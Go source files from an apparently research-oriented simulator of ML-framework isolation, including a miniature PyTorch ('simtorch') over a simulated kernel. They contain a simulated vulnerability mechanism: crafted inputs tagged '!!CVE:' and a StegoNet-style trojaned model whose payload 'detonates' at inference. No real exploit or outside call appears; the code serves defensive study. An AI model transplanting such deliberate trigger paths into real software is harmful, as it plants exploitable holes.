// APIName returns the name of the API currently executing.
func (c *Ctx) APIName() string { return c.api }

// emit records a dynamic data-flow operation.
func (c *Ctx) emit(op Op) {
	if c.Tracer != nil {
		c.Tracer.RecordOp(c.api, op)
	}
}

// EmitMemOp records a memory-to-memory transfer (W(MEM, R(MEM))).
func (c *Ctx) EmitMemOp() { c.emit(WriteOp(StorageMem, StorageMem)) }

// Charge advances the virtual clock by the compute cost of touching n
// bytes at the given intensity.
func (c *Ctx) Charge(n int, intensity float64) {
	c.K.Clock.Advance(c.K.Cost.ComputeCost(n, intensity))
}

// --- vulnerability triggers -------------------------------------------------

// triggerMagic prefixes crafted malicious inputs.
var triggerMagic = []byte("!!CVE:")

// Trigger builds a crafted input that exploits cve, carrying an attack
// payload. The attack layer uses this to construct malicious images,
// models, and frames.
func Trigger(cve string, payload []byte) []byte {
	out := append([]byte(nil), triggerMagic...)
	out = append(out, cve...)
	out = append(out, []byte("!!")...)
	out = append(out, payload...)
	return out
}

// ParseTrigger recognizes a crafted input, returning the CVE id and
// payload. The trigger may be embedded anywhere in the data (trojaned
// models hide it among valid weights).
func ParseTrigger(data []byte) (cve string, payload []byte, ok bool) {
	start := bytes.Index(data, triggerMagic)
	if start < 0 {
		return "", nil, false
	}
	rest := data[start+len(triggerMagic):]
	end := bytes.Index(rest, []byte("!!"))
	if end < 0 {
		return "", nil, false
	}
	return string(rest[:end]), rest[end+2:], true
}

// MaybeExploit checks whether data is a crafted input targeting one of the
// API's vulnerabilities, and if so fires the exploit handler. It returns
// (true, err) when an exploit triggered. Crafted inputs targeting CVEs the
// API does not have are inert (the vulnerability is not present there).
func (c *Ctx) MaybeExploit(api *API, data []byte) (bool, error) {
	cve, payload, ok := ParseTrigger(data)
	if !ok {
		return false, nil
	}
	if !api.HasCVE(cve) {
		return false, nil
	}
	if c.OnExploit != nil {
		return true, c.OnExploit(c, cve, payload)
	}
	// Default: the memory corruption lands nowhere useful and the process
	// segfaults.
	c.K.Crash(c.P, fmt.Sprintf("%s exploited in %s", cve, c.api))
	return true, fmt.Errorf("%w: %s in %s (process crashed)", ErrExploited, cve, c.api)
}

// --- kernel-mediated I/O with dynamic-trace emission -------------------------

// FileRead loads a file into memory, emitting W(MEM, R(FILE)).
func (c *Ctx) FileRead(path string) ([]byte, error) {
	data, err := c.K.FileRead(c.P, path)
	if err != nil {
		return nil, err
	}
	c.emit(WriteOp(StorageMem, StorageFile))
	return data, nil
}

// FileWrite stores memory to a file, emitting W(FILE, R(MEM)).
func (c *Ctx) FileWrite(path string, data []byte) error {
	if err := c.K.FileWrite(c.P, path, data); err != nil {
		return err
	}
	c.emit(WriteOp(StorageFile, StorageMem))
	return nil
}

// FileAppend appends memory to a file, emitting W(FILE, R(MEM)).
func (c *Ctx) FileAppend(path string, data []byte) error {
	if err := c.K.FileAppend(c.P, path, data); err != nil {
		return err
	}
	c.emit(WriteOp(StorageFile, StorageMem))
	return nil
}

// CameraRead fetches a camera frame, emitting W(MEM, R(DEV)).
func (c *Ctx) CameraRead(label string) ([]byte, bool, error) {
	frame, ok, err := c.K.CameraRead(c.P, label)
	if err != nil || !ok {
		return nil, ok, err
	}
	c.emit(WriteOp(StorageMem, StorageDev))
	return frame, true, nil
}

// NetDownload receives data from a remote host, emitting W(MEM, R(DEV)) —
// the network is a device in the Fig. 8 model.
func (c *Ctx) NetDownload(host string) ([]byte, bool, error) {
	data, ok, err := c.K.NetRecv(c.P, host)
	if err != nil || !ok {
		return nil, ok, err
	}
	c.emit(WriteOp(StorageMem, StorageDev))
	return data, true, nil
}

// NetSend transmits memory to a remote host, emitting W(DEV, R(MEM)).
func (c *Ctx) NetSend(host string, data []byte) error {
	if err := c.K.NetSend(c.P, host, data); err != nil {
		return err
	}
	c.emit(WriteOp(StorageDev, StorageMem))
	return nil
}

// GUIShow paints pixels, emitting W(GUI, R(MEM)).
func (c *Ctx) GUIShow(window string, nbytes int) error {
	if err := c.K.GUIShow(c.P, window, nbytes); err != nil {
		return err
	}
	c.emit(WriteOp(StorageGUI, StorageMem))
	return nil
}

// GUIOp performs a non-paint window operation, emitting R(GUI).
func (c *Ctx) GUIOp(op, window string) error {
	if err := c.K.GUIOp(c.P, op, window); err != nil {
		return err
	}
	c.emit(ReadOp(StorageGUI))
	return nil
}

// GUIReadState reads GUI-owned state into memory, emitting W(MEM, R(GUI)).
func (c *Ctx) GUIReadState() ([]string, error) {
	if err := c.K.Syscall(c.P, kernel.SysSelect, kernel.GUIHost); err != nil {
		return nil, err
	}
	if err := c.K.Syscall(c.P, kernel.SysRecvfrom, ""); err != nil {
		return nil, err
	}
	c.emit(WriteOp(StorageMem, StorageGUI))
	return c.K.GUI.Recent(), nil
}

// --- object helpers ----------------------------------------------------------

// NewMat allocates a mat in the hosting process and registers it.
func (c *Ctx) NewMat(rows, cols, channels int) (uint64, *object.Mat, error) {
	m, err := object.NewMat(c.P.Space(), rows, cols, channels)
	if err != nil {
		return 0, nil, err
	}
	return c.Table.Put(m), m, nil
}

// NewMatFromBytes allocates and fills a mat.
func (c *Ctx) NewMatFromBytes(rows, cols, channels int, data []byte) (uint64, *object.Mat, error) {
	m, err := object.MatFromBytes(c.P.Space(), rows, cols, channels, data)
	if err != nil {
		return 0, nil, err
	}
	return c.Table.Put(m), m, nil
}

// NewTensor allocates a tensor in the hosting process and registers it.
func (c *Ctx) NewTensor(shape ...int) (uint64, *object.Tensor, error) {
	t, err := object.NewTensor(c.P.Space(), shape...)
	if err != nil {
		return 0, nil, err
	}
	return c.Table.Put(t), t, nil
}

// NewBlob allocates a blob in the hosting process and registers it.
func (c *Ctx) NewBlob(data []byte) (uint64, *object.Blob, error) {
	b, err := object.NewBlob(c.P.Space(), data)
	if err != nil {
		return 0, nil, err
	}
	return c.Table.Put(b), b, nil
}

// Obj resolves a Value to the underlying object.
func (c *Ctx) Obj(v Value) (object.Object, error) {
	if v.Kind != ValObj {
		return nil, fmt.Errorf("framework: value %s is not a local object", v)
	}
	o, ok := c.Table.Get(v.Obj)
	if !ok {
		return nil, fmt.Errorf("framework: dangling object id %d", v.Obj)
	}
	return o, nil
}

// Mat resolves a Value to a *object.Mat.
func (c *Ctx) Mat(v Value) (*object.Mat, error) {
	o, err := c.Obj(v)
	if err != nil {
		return nil, err
	}
	m, ok := o.(*object.Mat)
	if !ok {
		return nil, fmt.Errorf("framework: object %d is %s, want mat", v.Obj, o.Kind())
	}
	return m, nil
}

// Tensor resolves a Value to a *object.Tensor.
func (c *Ctx) Tensor(v Value) (*object.Tensor, error) {
	o, err := c.Obj(v)
	if err != nil {
		return nil, err
	}
	t, ok := o.(*object.Tensor)
	if !ok {
		return nil, fmt.Errorf("framework: object %d is %s, want tensor", v.Obj, o.Kind())
	}
	return t, nil
}

// Blob resolves a Value to a *object.Blob.
func (c *Ctx) Blob(v Value) (*object.Blob, error) {
	o, err := c.Obj(v)
	if err != nil {
		return nil, err
	}
	b, ok := o.(*object.Blob)
	if !ok {
		return nil, fmt.Errorf("framework: object %d is %s, want blob", v.Obj, o.Kind())
	}
	return b, nil
}
