package simtorch

import (
	"fmt"
	"math"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
)

// registerNN installs tensor math and neural-network APIs.
func registerNN(r *framework.Registry) {
	r.Register(&framework.API{
		Name: "torch.tensor", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysMmap}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			// torch.tensor(n, fill): builds a 1-D tensor of n copies of fill.
			n := 1
			if len(args) > 0 && args[0].Int > 0 {
				n = int(args[0].Int)
			}
			fill := 0.0
			if len(args) > 1 {
				fill = args[1].Float
			}
			vals := make([]float64, n)
			for i := range vals {
				vals[i] = fill
			}
			ctx.EmitMemOp()
			v, err := newOut(ctx, []int{n}, vals)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	r.Register(elementwise("torch.relu", func(v float64) float64 { return math.Max(0, v) }))
	r.Register(elementwise("torch.sigmoid", func(v float64) float64 { return 1 / (1 + math.Exp(-v)) }))
	r.Register(elementwise("torch.tanh", math.Tanh))
	r.Register(elementwise("torch.abs", math.Abs))
	r.Register(elementwise("torch.exp", math.Exp))
	r.Register(elementwise("torch.neg", func(v float64) float64 { return -v }))

	binop := func(name string, f func(a, b float64) float64) *framework.API {
		return &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeProcessing,
			StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				a, err := tensorArg(ctx, args, 0)
				if err != nil {
					return nil, err
				}
				b, err := tensorArg(ctx, args, 1)
				if err != nil {
					return nil, err
				}
				if a.Len() != b.Len() {
					return nil, fmt.Errorf("simtorch: %s length mismatch %d vs %d", name, a.Len(), b.Len())
				}
				va, err := a.Values()
				if err != nil {
					return nil, err
				}
				vb, err := b.Values()
				if err != nil {
					return nil, err
				}
				ctx.Charge(a.Size()+b.Size(), 1)
				ctx.EmitMemOp()
				out := make([]float64, len(va))
				for i := range va {
					out[i] = f(va[i], vb[i])
				}
				v, err := newOut(ctx, a.Shape(), out)
				if err != nil {
					return nil, err
				}
				return []framework.Value{v}, nil
			},
		}
	}
	r.Register(binop("torch.add", func(a, b float64) float64 { return a + b }))
	r.Register(binop("torch.sub", func(a, b float64) float64 { return a - b }))
	r.Register(binop("torch.mul", func(a, b float64) float64 { return a * b }))

	r.Register(&framework.API{
		Name: "torch.matmul", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysFutex}, Intensity: 8,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			a, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			b, err := tensorArg(ctx, args, 1)
			if err != nil {
				return nil, err
			}
			sa, sb := a.Shape(), b.Shape()
			if len(sa) != 2 || len(sb) != 2 || sa[1] != sb[0] {
				return nil, fmt.Errorf("simtorch: matmul %v x %v", sa, sb)
			}
			va, err := a.Values()
			if err != nil {
				return nil, err
			}
			vb, err := b.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(a.Size()+b.Size(), float64(sa[1]))
			ctx.EmitMemOp()
			m, k, n := sa[0], sa[1], sb[1]
			out := make([]float64, m*n)
			for i := 0; i < m; i++ {
				for j := 0; j < n; j++ {
					s := 0.0
					for x := 0; x < k; x++ {
						s += va[i*k+x] * vb[x*n+j]
					}
					out[i*n+j] = s
				}
			}
			v, err := newOut(ctx, []int{m, n}, out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	r.Register(&framework.API{
		Name: "torch.nn.Conv2d", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysFutex}, Intensity: 9,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			// Conv2d(input HxW, kernel KxK) -> valid convolution.
			in, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			kr, err := tensorArg(ctx, args, 1)
			if err != nil {
				return nil, err
			}
			si, sk := in.Shape(), kr.Shape()
			if len(si) != 2 || len(sk) != 2 || sk[0] > si[0] || sk[1] > si[1] {
				return nil, fmt.Errorf("simtorch: conv2d %v with kernel %v", si, sk)
			}
			vi, err := in.Values()
			if err != nil {
				return nil, err
			}
			vk, err := kr.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(in.Size(), float64(sk[0]*sk[1]))
			ctx.EmitMemOp()
			oh, ow := si[0]-sk[0]+1, si[1]-sk[1]+1
			out := make([]float64, oh*ow)
			for y := 0; y < oh; y++ {
				for x := 0; x < ow; x++ {
					s := 0.0
					for ky := 0; ky < sk[0]; ky++ {
						for kx := 0; kx < sk[1]; kx++ {
							s += vi[(y+ky)*si[1]+x+kx] * vk[ky*sk[1]+kx]
						}
					}
					out[y*ow+x] = s
				}
			}
			v, err := newOut(ctx, []int{oh, ow}, out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	pool := func(name string, avg bool) *framework.API {
		return &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeProcessing,
			StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 4,
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				in, err := tensorArg(ctx, args, 0)
				if err != nil {
					return nil, err
				}
				si := in.Shape()
				if len(si) != 2 || si[0] < 2 || si[1] < 2 {
					return nil, fmt.Errorf("simtorch: %s input %v", name, si)
				}
				vi, err := in.Values()
				if err != nil {
					return nil, err
				}
				ctx.Charge(in.Size(), 4)
				ctx.EmitMemOp()
				oh, ow := si[0]/2, si[1]/2
				out := make([]float64, oh*ow)
				for y := 0; y < oh; y++ {
					for x := 0; x < ow; x++ {
						a := vi[(2*y)*si[1]+2*x]
						b := vi[(2*y)*si[1]+2*x+1]
						c := vi[(2*y+1)*si[1]+2*x]
						d := vi[(2*y+1)*si[1]+2*x+1]
						if avg {
							out[y*ow+x] = (a + b + c + d) / 4
						} else {
							out[y*ow+x] = math.Max(math.Max(a, b), math.Max(c, d))
						}
					}
				}
				v, err := newOut(ctx, []int{oh, ow}, out)
				if err != nil {
					return nil, err
				}
				return []framework.Value{v}, nil
			},
		}
	}
	r.Register(pool("torch.max_pool2d", false))
	r.Register(pool("torch.avg_pool2d", true))

	r.Register(&framework.API{
		Name: "torch.softmax", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 2,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(t.Size(), 2)
			ctx.EmitMemOp()
			maxV := math.Inf(-1)
			for _, v := range vals {
				maxV = math.Max(maxV, v)
			}
			sum := 0.0
			out := make([]float64, len(vals))
			for i, v := range vals {
				out[i] = math.Exp(v - maxV)
				sum += out[i]
			}
			for i := range out {
				out[i] /= sum
			}
			v, err := newOut(ctx, t.Shape(), out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	reduce := func(name string, f func(vals []float64) float64) *framework.API {
		return &framework.API{
			Name: name, Framework: Name, TrueType: framework.TypeProcessing,
			StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
			Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
				t, err := tensorArg(ctx, args, 0)
				if err != nil {
					return nil, err
				}
				vals, err := t.Values()
				if err != nil {
					return nil, err
				}
				ctx.Charge(t.Size(), 1)
				ctx.EmitMemOp()
				return []framework.Value{framework.Float64(f(vals))}, nil
			},
		}
	}
	r.Register(reduce("torch.mean", func(vals []float64) float64 {
		s := 0.0
		for _, v := range vals {
			s += v
		}
		return s / float64(len(vals))
	}))
	r.Register(reduce("torch.sum", func(vals []float64) float64 {
		s := 0.0
		for _, v := range vals {
			s += v
		}
		return s
	}))
	r.Register(reduce("torch.norm", func(vals []float64) float64 {
		s := 0.0
		for _, v := range vals {
			s += v * v
		}
		return math.Sqrt(s)
	}))

	r.Register(&framework.API{
		Name: "torch.argmax", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(t.Size(), 1)
			ctx.EmitMemOp()
			best := 0
			for i, v := range vals {
				if v > vals[best] {
					best = i
				}
			}
			return []framework.Value{framework.Int64(int64(best))}, nil
		},
	})

	r.Register(&framework.API{
		Name: "torch.flatten", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.EmitMemOp()
			v, err := newOut(ctx, []int{len(vals)}, vals)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	r.Register(&framework.API{
		Name: "torch.reshape", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			if len(args) < 3 {
				return nil, fmt.Errorf("simtorch: reshape needs rows, cols")
			}
			rows, cols := int(args[1].Int), int(args[2].Int)
			if rows*cols != t.Len() {
				return nil, fmt.Errorf("simtorch: reshape %d elements to %dx%d", t.Len(), rows, cols)
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.EmitMemOp()
			v, err := newOut(ctx, []int{rows, cols}, vals)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	r.Register(&framework.API{
		Name: "torch.combinations", Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 2,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			n := len(vals)
			if n < 2 {
				return nil, fmt.Errorf("simtorch: combinations needs >=2 elements")
			}
			if n > 64 {
				n = 64 // cap the quadratic blowup
			}
			ctx.Charge(t.Size(), 2)
			ctx.EmitMemOp()
			var out []float64
			for i := 0; i < n; i++ {
				for j := i + 1; j < n; j++ {
					out = append(out, vals[i], vals[j])
				}
			}
			v, err := newOut(ctx, []int{len(out) / 2, 2}, out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	})

	// Module.forward runs a loaded model over an input tensor. Trojaned
	// models (StegoNet) detonate here, inside the data-processing agent.
	var fwdAPI *framework.API
	fwdAPI = &framework.API{
		Name: "torch.Module.forward", Framework: Name, TrueType: framework.TypeProcessing,
		Stateful:  true,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk, kernel.SysFutex, kernel.SysClockGettime},
		Intensity: 16,
		CVEs:      []string{CVEStegoNet},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			model, err := ctx.Blob(args[0])
			if err != nil {
				return nil, err
			}
			raw, err := model.Bytes()
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(fwdAPI, raw); fired {
				return nil, err
			}
			layers, err := DecodeModel(stripTrojan(raw))
			if err != nil {
				return nil, err
			}
			in, err := tensorArg(ctx, args, 1)
			if err != nil {
				return nil, err
			}
			x, err := in.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(in.Size(), 16)
			ctx.EmitMemOp()
			// Each layer is a dense weight row-set: out_i = relu(sum w_ij x_j),
			// with layer sizes inferred from len(w) / len(x).
			for li, w := range layers {
				if len(x) == 0 || len(w)%len(x) != 0 {
					return nil, fmt.Errorf("simtorch: layer %d (%d weights) incompatible with input %d", li, len(w), len(x))
				}
				outN := len(w) / len(x)
				next := make([]float64, outN)
				for i := 0; i < outN; i++ {
					s := 0.0
					for j := range x {
						s += w[i*len(x)+j] * x[j]
					}
					if li < len(layers)-1 && s < 0 {
						s = 0 // ReLU on hidden layers
					}
					next[i] = s
				}
				x = next
			}
			v, err := newOut(ctx, []int{len(x)}, x)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	}
	r.Register(fwdAPI)

	// SGD.step is stateful: it updates the weights tensor in place.
	r.Register(&framework.API{
		Name: "torch.optim.SGD.step", Framework: Name, TrueType: framework.TypeProcessing,
		Stateful: true, SharedState: true,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			w, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			g, err := tensorArg(ctx, args, 1)
			if err != nil {
				return nil, err
			}
			if w.Len() != g.Len() {
				return nil, fmt.Errorf("simtorch: SGD weight/grad mismatch")
			}
			lr := 0.01
			if len(args) > 2 && args[2].Float > 0 {
				lr = args[2].Float
			}
			vw, err := w.Values()
			if err != nil {
				return nil, err
			}
			vg, err := g.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(w.Size(), 1)
			ctx.EmitMemOp()
			for i := range vw {
				vw[i] -= lr * vg[i]
			}
			if err := w.SetValues(vw); err != nil {
				return nil, err
			}
			return []framework.Value{args[0]}, nil
		},
	})
}

// registerStoring installs model persistence APIs.
func registerStoring(r *framework.Registry) {
	r.Register(&framework.API{
		Name: "torch.save", Framework: Name, TrueType: framework.TypeStoring,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageFile, framework.StorageMem)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysWrite, kernel.SysClose, kernel.SysUname},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 2 {
				return nil, fmt.Errorf("simtorch: save needs (tensor, path)")
			}
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(t.Size(), 1)
			return nil, ctx.FileWrite(args[1].Str, EncodeModel([][]float64{vals}))
		},
	})

	r.Register(&framework.API{
		Name: "torch.utils.tensorboard.SummaryWriter", Framework: Name, TrueType: framework.TypeStoring,
		Stateful:  true,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageFile, framework.StorageMem)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysWrite, kernel.SysClose, kernel.SysMkdir, kernel.SysLseek},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 2 {
				return nil, fmt.Errorf("simtorch: SummaryWriter needs (dir, scalar)")
			}
			line := fmt.Sprintf("scalar %g\n", args[1].Float)
			return nil, ctx.FileAppend(args[0].Str+"/events.log", []byte(line))
		},
	})
}
