// Package simtorch is a miniature PyTorch: tensor construction, neural-net
// layers (conv, linear, pooling, activations), model load/save, dataset
// loading, and an SGD optimizer, all over the simulated substrate.
//
// Model file format: "PTM1" magic, uint32 layer count, then per layer a
// uint32 value count and big-endian float64 weights. StegoNet-style trojan
// models (§A.7) are built by embedding a framework.Trigger in the weight
// stream; the payload detonates when the model executes (Module.forward),
// matching the paper's observation that model loading feeds the data
// processing process.
package simtorch

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"math"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/object"
)

// Name is the framework identifier.
const Name = "simtorch"

// TensorFlow-style CVE ids live in simflow; simtorch carries the torch
// pickle-style load hazard used by the StegoNet case study.
const (
	// CVEStegoNet marks a trojaned model whose payload runs at inference
	// time (Liu et al., reproduced in §A.7).
	CVEStegoNet = "STEGONET-TROJAN"
)

// modelMagic prefixes serialized models.
var modelMagic = []byte("PTM1")

// EncodeModel serializes layers of float64 weights.
func EncodeModel(layers [][]float64) []byte {
	out := append([]byte(nil), modelMagic...)
	out = binary.BigEndian.AppendUint32(out, uint32(len(layers)))
	for _, l := range layers {
		out = binary.BigEndian.AppendUint32(out, uint32(len(l)))
		for _, v := range l {
			out = binary.BigEndian.AppendUint64(out, math.Float64bits(v))
		}
	}
	return out
}

// DecodeModel parses a serialized model.
func DecodeModel(b []byte) ([][]float64, error) {
	if len(b) < 8 || string(b[:4]) != string(modelMagic) {
		return nil, fmt.Errorf("simtorch: not a model file")
	}
	n := int(binary.BigEndian.Uint32(b[4:8]))
	off := 8
	layers := make([][]float64, 0, n)
	for i := 0; i < n; i++ {
		if off+4 > len(b) {
			return nil, fmt.Errorf("simtorch: truncated model (layer %d header)", i)
		}
		cnt := int(binary.BigEndian.Uint32(b[off:]))
		off += 4
		if off+8*cnt > len(b) {
			return nil, fmt.Errorf("simtorch: truncated model (layer %d data)", i)
		}
		l := make([]float64, cnt)
		for j := range l {
			l[j] = math.Float64frombits(binary.BigEndian.Uint64(b[off:]))
			off += 8
		}
		layers = append(layers, l)
	}
	return layers, nil
}

// dpOps is the canonical processing flow.
func dpOps() []framework.Op {
	return []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageMem)}
}

// tensorArg resolves args[i] to a tensor.
func tensorArg(ctx *framework.Ctx, args []framework.Value, i int) (*object.Tensor, error) {
	if i >= len(args) {
		return nil, fmt.Errorf("simtorch: missing tensor argument %d", i)
	}
	return ctx.Tensor(args[i])
}

// newOut allocates a result tensor with vals.
func newOut(ctx *framework.Ctx, shape []int, vals []float64) (framework.Value, error) {
	id, t, err := ctx.NewTensor(shape...)
	if err != nil {
		return framework.Nil(), err
	}
	if err := t.SetValues(vals); err != nil {
		return framework.Nil(), err
	}
	return framework.Obj(id), nil
}

// elementwise builds a DP API applying f to each element of one tensor.
func elementwise(name string, f func(float64) float64) *framework.API {
	return &framework.API{
		Name: name, Framework: Name, TrueType: framework.TypeProcessing,
		StaticOps: dpOps(), Syscalls: []kernel.Sysno{kernel.SysBrk}, Intensity: 1,
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			t, err := tensorArg(ctx, args, 0)
			if err != nil {
				return nil, err
			}
			vals, err := t.Values()
			if err != nil {
				return nil, err
			}
			ctx.Charge(t.Size(), 1)
			ctx.EmitMemOp()
			out := make([]float64, len(vals))
			for i, v := range vals {
				out[i] = f(v)
			}
			v, err := newOut(ctx, t.Shape(), out)
			if err != nil {
				return nil, err
			}
			return []framework.Value{v}, nil
		},
	}
}

// Registry builds the simtorch API registry.
func Registry() *framework.Registry {
	r := framework.NewRegistry()
	registerLoading(r)
	registerNN(r)
	registerStoring(r)
	return r
}

// registerLoading installs model/dataset loading APIs.
func registerLoading(r *framework.Registry) {
	var loadAPI *framework.API
	loadAPI = &framework.API{
		Name: "torch.load", Framework: Name, TrueType: framework.TypeLoading,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageFile)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysClose, kernel.SysBrk, kernel.SysMmap},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 1 {
				return nil, fmt.Errorf("simtorch: load needs a path")
			}
			raw, err := ctx.FileRead(args[0].Str)
			if err != nil {
				return nil, err
			}
			if fired, err := ctx.MaybeExploit(loadAPI, raw); fired {
				return nil, err
			}
			// Trojaned models (StegoNet) parse fine; the payload hides in
			// the weights and detonates at forward() time.
			if _, err := DecodeModel(stripTrojan(raw)); err != nil {
				return nil, err
			}
			id, _, err := ctx.NewBlob(raw)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id)}, nil
		},
	}
	r.Register(loadAPI)

	r.Register(&framework.API{
		Name: "torch.hub.load", Framework: Name, TrueType: framework.TypeLoading,
		// Downloads over the network, caches to disk, then reads back: the
		// memory-copy-via-file pattern of §4.2.1. Static analysis sees the
		// file write+read; the reduction collapses it to a load.
		StaticOps: []framework.Op{
			framework.WriteOp(framework.StorageMem, framework.StorageDev),
			framework.WriteOp(framework.StorageFile, framework.StorageMem),
			framework.WriteOp(framework.StorageMem, framework.StorageFile),
		},
		Syscalls: []kernel.Sysno{kernel.SysSocket, kernel.SysConnect, kernel.SysRecvfrom, kernel.SysOpenat, kernel.SysWrite, kernel.SysRead, kernel.SysClose},
		FDLabels: map[kernel.Sysno][]string{kernel.SysConnect: {"hub.pytorch.org"}},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 1 {
				return nil, fmt.Errorf("simtorch: hub.load needs a model name")
			}
			host := "hub.pytorch.org"
			if err := ctx.K.NetConnect(ctx.P, host); err != nil {
				return nil, err
			}
			data, ok, err := ctx.NetDownload(host)
			if err != nil {
				return nil, err
			}
			if !ok {
				return nil, fmt.Errorf("simtorch: hub has no model %q queued", args[0].Str)
			}
			cache := "/cache/hub/" + args[0].Str
			if err := ctx.FileWrite(cache, data); err != nil {
				return nil, err
			}
			raw, err := ctx.FileRead(cache)
			if err != nil {
				return nil, err
			}
			id, _, err := ctx.NewBlob(raw)
			if err != nil {
				return nil, err
			}
			return []framework.Value{framework.Obj(id)}, nil
		},
	})

	r.Register(&framework.API{
		Name: "torchvision.datasets.MNIST", Framework: Name, TrueType: framework.TypeLoading,
		StaticOps: []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageFile)},
		Syscalls:  []kernel.Sysno{kernel.SysOpenat, kernel.SysFstat, kernel.SysRead, kernel.SysClose, kernel.SysGetcwd},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if len(args) < 1 {
				return nil, fmt.Errorf("simtorch: MNIST needs a root dir")
			}
			raw, err := ctx.FileRead(args[0].Str + "/mnist.bin")
			if err != nil {
				return nil, err
			}
